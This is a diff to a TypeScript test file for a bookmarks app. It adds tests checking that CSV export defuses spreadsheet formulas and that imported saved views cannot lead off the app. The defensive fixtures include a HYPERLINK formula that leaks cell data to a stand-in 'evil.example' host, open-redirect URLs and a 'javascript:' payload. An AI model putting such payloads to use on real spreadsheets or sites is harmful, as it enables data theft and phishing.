@@ -1,12 +1,6 @@
 import { describe, expect, it } from 'vitest'
 import { snapshotQuote, sortBookmarks } from '@/domain/bookmarks/bookmark'
-import {
-  CSV_COLUMNS,
-  csvField,
-  toCsv,
-  toExportJson,
-  toMarkdown,
-} from '@/domain/bookmarks/export-formats'
+import { CSV_COLUMNS, toCsv, toExportJson, toMarkdown } from '@/domain/bookmarks/export-formats'
 import {
   checkImportSize,
   importChangesNothing,
@@ -70,12 +64,39 @@ function readCsv(text: string): string[][] {
 }
 
 describe('CSV export', () => {
-  it('quotes fields per RFC 4180', () => {
-    expect(csvField('plain')).toBe('plain')
-    expect(csvField('a,b')).toBe('"a,b"')
-    expect(csvField('say "hi"')).toBe('"say ""hi"""')
-    expect(csvField('two\nlines')).toBe('"two\nlines"')
-    expect(csvField('cr\rhere')).toBe('"cr\rhere"')
+  it('never lets a note, an imported quote text or citation become a spreadsheet formula', () => {
+    const hostile = [
+      '=HYPERLINK("http://evil.example/?leak="&A2,"Click")',
+      '- see ch.2',
+      '+1+1',
+      '@SUM(A1:A2)',
+      '\t=1+1',
+      '\r=1+1',
+    ]
+    const quote = bookmarksModel.quoteById.get('q31-unity')
+    if (!quote) throw new Error('fixture')
+    const snapshot = snapshotQuote(bookmarksModel, quote)
+    // Imported bookmarks no longer in the corpus show the file's own text and citation.
+    const { state } = mergeIncoming(
+      emptyPersistedState(),
+      hostile.map((text, i) => ({
+        quoteId: `zz-import-${i}`,
+        note: text,
+        snapshot: { ...snapshot, text, citation: text, speakerName: text, sourceTitle: text },
+      })),
+      () => ({ at: '2024-05-01T00:00:00.000Z', rev: 'r' }),
+    )
+    const items = Object.values(state.bookmarks).map((b) => resolveBookmark(b, bookmarksModel))
+    const rows = readCsv(toCsv(items, BASE).slice(1)).slice(1)
+    expect(rows).toHaveLength(hostile.length)
+    for (const row of rows) {
+      for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
+      const original = hostile[Number(row[8]?.split('-').pop())]
+      // After the quote prefix a spreadsheet shows the user's text, unchanged.
+      expect(row[6]).toBe(`'${original}`)
+      expect(row[0]).toBe(`'${original}`)
+      expect(row[10]).toBe(`'${original}`)
+    }
   })
 
   it('one row per bookmark with the documented columns; round-trips through a CSV reader', () => {
@@ -195,6 +216,32 @@ describe('bad import files', () => {
       'x.json',
     )
     expect(!r.ok && r.problem).toMatch(/bookmarks\[1\]\.quoteId/)
+  })
+
+  it.each([
+    '//evil.example/phish',
+    '/\\evil.example/x',
+    'javascript:alert(1)',
+    '/%2F%2Fevil.example/x',
+    '/%5Cevil.example/x',
+  ])('refuses a saved view that leads off the app (%j), naming the entry', (url) => {
+    const r = parseImportFile(
+      JSON.stringify({
+        format: 'assembly-explorer-bookmarks',
+        formatVersion: 1,
+        bookmarks: [],
+        savedViews: [
+          { id: 'v1', name: 'Fine', url: '/quotes', createdAt: '2024-05-01T00:00:00.000Z' },
+          { id: 'v2', name: 'Phish', url, createdAt: '2024-05-01T00:00:00.000Z' },
+        ],
+      }),
+      'x.json',
+    )
+    const views = r.ok ? r.file.savedViews.map((view) => view.url) : []
+    expect(views).not.toContain(url)
+    const problem = r.ok ? '' : r.problem
+    expect(problem).toMatch(/savedViews\[1\]/)
+    expect(problem).toContain('not a page of this app')
   })
 
   it('names the problem: a newer format', () => {
